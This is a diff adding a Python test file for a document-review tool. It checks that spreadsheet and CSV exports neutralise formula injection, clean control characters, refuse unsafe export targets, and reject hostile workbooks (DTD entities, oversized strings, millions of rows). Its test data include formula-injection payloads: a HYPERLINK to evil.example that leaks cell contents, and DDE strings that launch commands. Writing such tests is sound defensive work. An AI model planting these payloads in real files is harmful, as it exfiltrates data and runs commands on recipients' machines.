@@ -1,0 +1,327 @@
+"""Reliability round 2 (issue 17): injection, hostile input files, limits, hangs and export safety.
+
+Each test names the finding it covers; docs/RELIABILITY.md lists them with what the member sees.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import time
+import uuid
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pymupdf
+import pytest
+
+from reviewer.annotations import Annotation
+from reviewer.errors import ReviewerError
+from reviewer.exchange import PackageError
+from reviewer.export.csv import write_csv
+from reviewer.export.docx import write_docx
+from reviewer.export.pdf import write_pdf
+from reviewer.export.sheet import ANSWER_COLUMN, COLUMNS, SHEET_NAME, SheetRow, build_sheet, related_groups
+from reviewer.export.xlsx import read_sheet_answers, write_xlsx
+
+SHA = "e" * 64
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def comment(n: int, text: str, *, page: int = 0, rect: tuple[float, float, float, float] = (72, 100, 300, 114),
+            author: str = "委員A", **kw: object) -> Annotation:
+    fields: dict[str, object] = dict(
+        file_sha256=SHA, file_name="packet.pdf", page=page, page_label=str(page + 1), kind="highlight",
+        rects=[rect], category="意見", text=text, author=author, id=str(uuid.uuid5(uuid.NAMESPACE_DNS, f"r{n}")),
+        created="2026-11-01T09:00:00.000Z", modified="2026-11-01T09:00:00.000Z", origin="imported",
+    )
+    fields.update(kw)
+    return Annotation(**fields)  # type: ignore[arg-type]
+
+
+def hostile_rows() -> list[SheetRow]:
+    comments = [comment(i, text, quote=text, answer=text, sheet_text=None, page=i)
+                for i, text in enumerate(HOSTILE)]
+    return build_sheet(comments)
+
+
+# ------------------------------------------------------------------------------------------ injection
+
+
+def test_xlsx_writes_formula_like_comments_answers_and_quotes_as_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    out = tmp_path / "sheet.xlsx"
+    write_xlsx(hostile_rows(), out)
+    ws = load_workbook(out)[SHEET_NAME]
+    texts = {COLUMNS.index("意見・質問"), COLUMNS.index("引用"), COLUMNS.index(ANSWER_COLUMN)}
+    seen = []
+    for row in ws.iter_rows(min_row=2):
+        for c in texts:
+            assert row[c].data_type == "s", (row[c].coordinate, row[c].value)
+        seen.append(row[COLUMNS.index("意見・質問")].value)
+    # Text intact after the documented cleaning (a lone CR is a line break).
+    assert sorted(seen) == sorted(t.replace("\r", "\n") for t in HOSTILE)
+    with zipfile.ZipFile(out) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+
+
+def test_answer_formula_in_a_returned_sheet_comes_back_as_inert_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    rows = build_sheet([comment(1, "質問です")])
+    sheet = tmp_path / "returned.xlsx"
+    write_xlsx(rows, sheet)
+    wb = load_workbook(sheet)
+    ws = wb[SHEET_NAME]
+    # The department typed a formula (openpyxl writes it as a live <f> cell, as Excel would).
+    ws.cell(row=2, column=COLUMNS.index(ANSWER_COLUMN) + 1, value='=HYPERLINK("http://evil.example","ok")')
+    wb.save(sheet)
+    answers = read_sheet_answers(sheet)
+    assert answers == {rows[0].id: '=HYPERLINK("http://evil.example","ok")'}
+    again = tmp_path / "again.xlsx"
+    write_xlsx(build_sheet([comment(1, "質問です", answer=answers[rows[0].id])]), again)
+    cell = load_workbook(again)[SHEET_NAME].cell(row=2, column=COLUMNS.index(ANSWER_COLUMN) + 1)
+    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://evil.example","ok")'
+
+
+def test_csv_escapes_formula_prefixes_per_owasp(tmp_path: Path) -> None:
+    out = tmp_path / "sheet.csv"
+    write_csv(hostile_rows(), out)
+    raw = out.read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert rows[0] == list(COLUMNS)
+    text_at = COLUMNS.index("意見・質問")
+    got = sorted(r[text_at] for r in rows[1:])
+    assert got == sorted("'" + t.replace("\r", "\n") for t in HOSTILE)
+    for line_fields in rows[1:]:
+        assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in line_fields)
+    # Every data field is quoted (OWASP), so a separator or quote inside never splits a field.
+    data_lines = raw.split("\r\n")[1:]
+    assert data_lines[0].startswith('"') and '",' in data_lines[0]
+
+
+# ------------------------------------------------------------------------------------------ control characters
+
+CONTROL_TEXT = "前\x00中\x07後\x1bと\x0cで\ud800終\x7f"
+CLEANED = "前中後とで\ufffd終\x7f"  # DEL is valid XML: kept
+
+
+def test_control_characters_and_lone_surrogates_are_cleaned_in_every_writer(tmp_path: Path) -> None:
+    from docx import Document as open_docx
+    from openpyxl import load_workbook
+
+    rows = build_sheet([comment(1, CONTROL_TEXT, quote=CONTROL_TEXT, answer=CONTROL_TEXT, author="委\x01員")])
+    write_xlsx(rows, tmp_path / "s.xlsx")
+    write_docx(rows, tmp_path / "s.docx")
+    write_pdf(rows, tmp_path / "s.pdf")
+    write_csv(rows, tmp_path / "s.csv")
+    ws = load_workbook(tmp_path / "s.xlsx")[SHEET_NAME]
+    assert ws.cell(row=2, column=COLUMNS.index("意見・質問") + 1).value == CLEANED
+    assert ws.cell(row=2, column=COLUMNS.index("委員") + 1).value == "委員"
+    doc_text = "\n".join(c.text for row in open_docx(str(tmp_path / "s.docx")).tables[0].rows for c in row.cells)
+    assert CLEANED in doc_text and "\x07" not in doc_text
+    with pymupdf.open(tmp_path / "s.pdf") as pdf:
+        assert "前中後とで" in pdf[0].get_text().replace("\n", "")
+    csv_text = (tmp_path / "s.csv").read_text("utf-8-sig")
+    assert CLEANED in csv_text and "\x00" not in csv_text
+
+
+def test_corpus_file_with_control_characters_exports_to_every_format(tmp_path: Path, corpus_dir: Path) -> None:
+    from docx import Document as open_docx
+    from openpyxl import load_workbook
+
+    from reviewer.exchange.pdf_annots import read_pdf_file
+
+    source = corpus_dir / "annots" / "qna__samples-sample.pdf"
+    if not source.is_file():
+        pytest.skip("corpus file missing")
+    annotations, _skipped = read_pdf_file(source, packet_sha=SHA, packet_name=source.name)
+    assert any(any(ord(ch) < 32 and ch not in "\n\t" for ch in a.text) for a in annotations)
+    rows = build_sheet(annotations)
+    write_xlsx(rows, tmp_path / "q.xlsx")
+    write_docx(rows, tmp_path / "q.docx")
+    write_pdf(rows, tmp_path / "q.pdf")
+    ws = load_workbook(tmp_path / "q.xlsx")[SHEET_NAME]
+    assert ws.max_row == len(rows) + 1
+    docx_cells = [c.text for row in open_docx(str(tmp_path / "q.docx")).tables[0].rows for c in row.cells]
+    assert len(docx_cells) > len(rows)
+
+
+# ------------------------------------------------------------------------------------------ export targets
+
+
+def test_export_to_a_directory_is_a_message_and_creates_nothing(tmp_path: Path) -> None:
+    target = tmp_path / "folder.xlsx"
+    target.mkdir()
+    with pytest.raises(ReviewerError) as caught:
+        write_xlsx(hostile_rows(), target)
+    assert "folder.xlsx" in caught.value.message_ja and "\n" not in caught.value.message_ja
+    assert target.is_dir() and list(tmp_path.iterdir()) == [target]
+
+
+def test_export_into_a_missing_folder_is_refused_not_created(tmp_path: Path) -> None:
+    target = tmp_path / "no" / "such" / "sheet.csv"
+    with pytest.raises(ReviewerError) as caught:
+        write_csv(hostile_rows(), target)
+    assert "フォルダ" in caught.value.message_ja
+    assert not (tmp_path / "no").exists()
+
+
+@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root ignores folder permissions")
+def test_export_into_a_read_only_folder_keeps_the_old_file(tmp_path: Path) -> None:
+    folder = tmp_path / "ro"
+    folder.mkdir()
+    old = folder / "sheet.docx"
+    old.write_bytes(b"old version")
+    folder.chmod(0o500)
+    try:
+        with pytest.raises(ReviewerError) as caught:
+            write_docx(hostile_rows(), old)
+        assert "書き込めません" in caught.value.message_ja
+    finally:
+        folder.chmod(0o700)
+    assert old.read_bytes() == b"old version"
+
+
+def test_export_onto_a_full_disk_is_a_message_and_keeps_the_old_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import errno
+
+    old = tmp_path / "sheet.pdf"
+    old.write_bytes(b"old version")
+    real_fsync = os.fsync
+
+    def full(fd: int) -> None:
+        if os.path.basename(os.readlink(f"/proc/self/fd/{fd}")).startswith(".sheet.pdf."):
+            raise OSError(errno.ENOSPC, "No space left on device")
+        real_fsync(fd)
+
+    monkeypatch.setattr(os, "fsync", full)
+    with pytest.raises(ReviewerError) as caught:
+        write_pdf(hostile_rows(), old)
+    assert "空き" in caught.value.message_ja and "\n" not in caught.value.message_ja
+    assert old.read_bytes() == b"old version"
+    assert [p.name for p in tmp_path.iterdir()] == ["sheet.pdf"]
+
+
+@pytest.mark.skipif(os.name != "posix", reason="symlinks")
+def test_export_onto_a_symlink_is_refused_and_the_link_kept(tmp_path: Path) -> None:
+    real = tmp_path / "real.csv"
+    real.write_text("old", encoding="utf-8")
+    link = tmp_path / "link.csv"
+    link.symlink_to(real)
+    with pytest.raises(ReviewerError) as caught:
+        write_csv(hostile_rows(), link)
+    assert "リンク" in caught.value.message_ja
+    assert link.is_symlink() and real.read_text(encoding="utf-8") == "old"
+
+
+# ------------------------------------------------------------------------------------------ helpers for timing
+
+
+def cost(work: Callable[[], object]) -> float:
+    """CPU seconds of ``work`` (process time: other engineers' load on the box does not count)."""
+    start = time.process_time()
+    work()
+    return time.process_time() - start
+
+
+# ------------------------------------------------------------------------------------------ hostile workbooks
+
+
+def rebuilt_sheet(tmp_path: Path, name: str, replace: dict[str, bytes], *, stored: bool = False) -> Path:
+    """A real answered sheet with some parts replaced (``stored``: the new parts uncompressed)."""
+    good = tmp_path / "good.xlsx"
+    if not good.exists():
+        write_xlsx(build_sheet([comment(1, "質問です", answer="回答です")]), good)
+    out = tmp_path / name
+    with zipfile.ZipFile(good) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = replace.pop(info.filename, None)
+            if data is None:
+                target.writestr(info, source.read(info.filename))
+            else:
+                target.writestr(info.filename, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
+        for extra, data in replace.items():
+            target.writestr(extra, data)
+    return out
+
+
+def refused(path: Path) -> str:
+    with pytest.raises(PackageError) as caught:
+        read_sheet_answers(path)
+    message = caught.value.message_ja
+    assert path.name in message and "取り込めません" in message and "\n" not in message
+    return message
+
+
+def test_returned_sheet_is_read_before_hostile_parts_reach_the_parser(tmp_path: Path) -> None:
+    good = rebuilt_sheet(tmp_path, "same.xlsx", {})
+    assert list(read_sheet_answers(good).values()) == ["回答です"]
+    sheet_xml = zipfile.ZipFile(good).read("xl/worksheets/sheet1.xml").decode("utf-8")
+    answer_ref = "回答です".encode("ascii", "xmlcharrefreplace").decode()
+    assert answer_ref in sheet_xml
+    body = sheet_xml.split("?>", 1)[-1].replace(answer_ref, "&e;")
+    entity = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e "展開された実体">]>' + body
+    assert "DTD" in refused(rebuilt_sheet(tmp_path, "entity.xlsx", {"xl/worksheets/sheet1.xml": entity.encode()}))
+    # The same in UTF-16LE without a BOM: the parser, not a byte search, sees the DOCTYPE.
+    utf16 = entity.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le")
+    assert "DTD" in refused(rebuilt_sheet(tmp_path, "entity16.xlsx", {"xl/worksheets/sheet1.xml": utf16}))
+    broken = sheet_xml[: len(sheet_xml) // 2].encode()
+    assert "壊れています" in refused(rebuilt_sheet(tmp_path, "cut.xlsx", {"xl/worksheets/sheet1.xml": broken}))
+    assert "壊れています" in refused(rebuilt_sheet(tmp_path, "styles.xlsx", {"xl/styles.xml": b"<styleSheet><"}))
+
+
+def test_huge_shared_string_is_refused_before_parsing_with_little_memory(tmp_path: Path) -> None:
+    import tracemalloc
+
+    big = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
+          b"<si><t>" + b"A" * (70 << 20) + b"</t></si></sst>"
+    path = rebuilt_sheet(tmp_path, "bigstring.xlsx", {"xl/sharedStrings.xml": big})
+    del big
+    tracemalloc.start()
+    try:
+        message = refused(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert "上限" in message and peak < 8 << 20
+    long_string = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
+                  b"<si><t>" + b"B" * 200_000 + b"</t></si></sst>"
+    assert "文字を超える" in refused(rebuilt_sheet(tmp_path, "long.xlsx", {"xl/sharedStrings.xml": long_string}))
+
+
+def test_millions_of_empty_rows_are_refused_quickly(tmp_path: Path) -> None:
+    sheet_xml = zipfile.ZipFile(rebuilt_sheet(tmp_path, "base.xlsx", {})).read("xl/worksheets/sheet1.xml").decode()
+    head, tail = sheet_xml.split("</sheetData>")
+    # 50 million empty rows: ~1 GB of XML, a few MB zipped. Refused from the zip directory alone.
+    many = "".join(f'<row r="{n}"/>' for n in range(3, 200_003))
+    path = rebuilt_sheet(tmp_path, "rows.xlsx", {"xl/worksheets/sheet1.xml": (head + many + "</sheetData>" + tail).encode()})
+    assert "行が多すぎます" in refused(path)
+    huge = tmp_path / "fifty-million.xlsx"
+    with zipfile.ZipFile(rebuilt_sheet(tmp_path, "base2.xlsx", {})) as source, \
+            zipfile.ZipFile(huge, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                target.writestr(info, source.read(info.filename))
+        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
+            stream.write(head.encode())
+            chunk = b"<row/>" * 100_000
+            for _ in range(500):  # 50,000,000 rows
+                stream.write(chunk)
+            stream.write(b"</sheetData>" + tail.encode())
+    started = time.monotonic()
+    assert "上限" in refused(huge)
+    assert time.monotonic() - started < 5  # generous: the check reads the zip directory only
